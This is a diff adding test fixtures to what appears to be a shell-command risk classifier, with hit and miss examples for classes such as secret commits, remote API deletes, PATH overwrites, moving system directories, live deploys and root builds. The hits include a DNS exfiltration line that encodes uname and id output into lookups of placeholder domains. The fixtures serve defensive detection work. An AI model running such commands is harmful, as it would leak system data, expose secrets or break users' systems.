@@ -155,4 +155,44 @@ export const CLASS_EXAMPLES: Record<string, { hits: string[]; misses: string[] }
     misses: ['cat /proc/sys/kernel/sysrq'],
   },
   'file-attributes': { hits: ['chattr +i /etc/resolv.conf'], misses: ['lsattr /etc/resolv.conf'] },
+  'secret-commit': {
+    hits: ['git add -f config/.env.production', 'git add deploy/server.key && git commit -m keys'],
+    misses: ['git add .env.example', 'git add -A', 'git commit -m "rotate .env handling"'],
+  },
+  'remote-api-delete': {
+    hits: [
+      'curl -X DELETE https://api.example.org/v2/projects/7',
+      'xh DELETE https://api.example.org/keys/3',
+    ],
+    misses: ['curl -X DELETE http://127.0.0.1:8080/cache', 'curl -X GET https://api.example.org/v2'],
+  },
+  'path-program-write': {
+    hits: ['install -m 755 build/cli ~/.local/bin/git', 'ln -sf "$PWD/tool" ~/bin/tool'],
+    misses: ['ls -la ~/.local/bin', 'cp build/cli ./bin/cli'],
+  },
+  'move-protected': {
+    hits: ['mv /etc /etc.old', 'mv -t /mnt ~', 'sudo mv /boot /tmp/b'],
+    misses: ['mv /etc/motd.new /etc/motd', 'mv ~/a.txt ~/b.txt', 'mv build dist'],
+  },
+  'deploy-live': {
+    hits: ['netlify deploy --prod', 'fly deploy', 'wrangler deploy', 'gcloud run deploy api'],
+    misses: ['netlify status', 'fly status', 'wrangler dev', 'gcloud run services list'],
+  },
+  'lookup-channel': {
+    hits: ['host "$(uname -a | base64 -w0 | cut -c1-50).x.example"', 'drill $(id -u).leak.example.org'],
+    misses: ['host example.org', 'dig "$NAME"'],
+  },
+  'root-build': {
+    hits: [
+      'doas gmake install',
+      'sudo gem install rails',
+      'sudo -E cargo install ripgrep',
+      'sudo ../setup.py',
+    ],
+    misses: ['gmake install', 'sudo apt-get install -y jq', 'sudo systemctl status docker'],
+  },
+  'system-identity': {
+    hits: ['sudo hostname build-7', 'localectl set-locale LANG=C.UTF-8', 'date 010112002030'],
+    misses: ['hostnamectl', 'localectl status', 'date -u +%F'],
+  },
 };
